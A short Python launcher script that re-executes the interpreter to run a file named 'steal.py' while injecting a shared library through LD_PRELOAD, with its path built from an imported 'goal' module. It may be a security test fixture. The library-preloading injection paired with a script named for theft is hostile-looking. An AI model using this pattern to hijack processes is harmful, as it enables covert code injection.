# SPDX-License-Identifier: Apache-2.0
import goal
import os
import sys
os.execve(sys.executable, [sys.executable, "-S", "steal.py"],
          {"LD_PRELOAD": goal.PLACE + "/data/none.so", "LD_BIND_NOW": "1"})
